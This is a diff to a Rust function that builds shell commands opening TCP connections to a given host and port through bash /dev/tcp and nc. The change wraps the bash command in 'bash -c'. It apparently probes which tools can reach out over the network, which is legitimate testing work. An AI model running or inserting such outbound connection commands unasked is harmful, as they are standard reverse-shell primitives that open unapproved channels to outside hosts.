@@ -77,7 +77,7 @@ fn talks(host: &str, port: u16, java: bool) -> Vec<(&'static str, String)> {
     let mut all = vec![
         (
             "bash",
-            format!("exec 3<>/dev/tcp/{host}/{port} && echo bash >&3 && cat <&3"),
+            format!("bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo bash >&3 && cat <&3'"),
         ),
         ("nc", format!("echo nc | timeout 9 nc {host} {port}")),
         (
